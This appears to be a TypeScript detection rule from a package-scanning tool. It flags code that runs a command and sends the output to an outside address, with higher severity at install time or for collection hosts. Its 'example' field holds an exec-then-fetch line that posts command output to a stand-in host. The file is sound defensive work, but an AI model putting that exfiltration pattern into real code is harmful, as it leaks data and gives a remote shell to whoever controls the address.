import { belongsTo, isChatHook, isCollectionHost, isLocalHost, isPublicAddress } from "../hosts.ts";
import type { Rule } from "../rule.ts";
import { named, placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";
import { hasFlow, HOLE, textsOf } from "../../program/value.ts";

export const sendsCommandOutput: Rule = {
  id: "sends-command-output",
  title: "Sends what a command printed away",
  why:
    "Running a command and sending its output to a fixed address is how a remote shell answers. Tools " +
    "that report a version keep to one program and send it to their own service.",
  example:
    'exec(order, (error, stdout) => fetch("https://collect.invalid", { method: "POST", body: stdout }));',
  advice: "Look at which commands are run, and who runs the address.",
  severity: "high",
  confidence: "medium",
  look: (view) =>
    view.sends.flatMap((use) => {
      const sendings = view
        .sendingsOf(use, "command-output")
        .filter(({ flow, host }) => !isLocalHost(host) && !belongsTo(flow.what, host));
      const [first] = sendings;
      if (first === undefined || isAskedThere(use)) return [];
      const outputs = [...new Set(sendings.map(({ flow }) => flow))];
      const collects =
        view.addressesOf(use).some(isChatHook) ||
        sendings.some(({ host }) => isCollectionHost(host) || isPublicAddress(host));
      const atInstall = view.isAtInstall(use.module);
      const message = `The output of ${named(outputs)} is sent to ${first.host}.`;
      // A command that a person types reports on their project to the service it is for.
      const isUsual =
        view.isReachedFrom(use.module, "bin") || outputs.every(({ what }) => PROJECT.test(what));
      const usual = isUsual ? ("low" as const) : ("medium" as const);
      const severity = collects || atInstall ? ("high" as const) : usual;
      return [{ place: placeOf(use), message, severity }];
    }),
};

/** What a repository is at, and which version a program has. */
const PROJECT =
  /^\S+ (?:git(?: (?:log|rev-parse|describe|branch|status|remote|symbolic-ref|tag|ls-files|diff)\b.*)?|\S+ (?:--version|-v))$/;

/** `npm config get registry` and its kin: the output is the address, or another stands in for it. */
function isAskedThere({ spec, args }: Use): boolean {
  const address = args[spec?.target?.at ?? -1];
  if (spec?.takes !== "send" || address === undefined) return false;
  const isAddress = address.open || textsOf(address).some((text) => text.startsWith(HOLE));
  const rest = args.filter((arg) => arg !== address);
  return isAddress && !rest.some((arg) => hasFlow(arg, "command-output"));
}
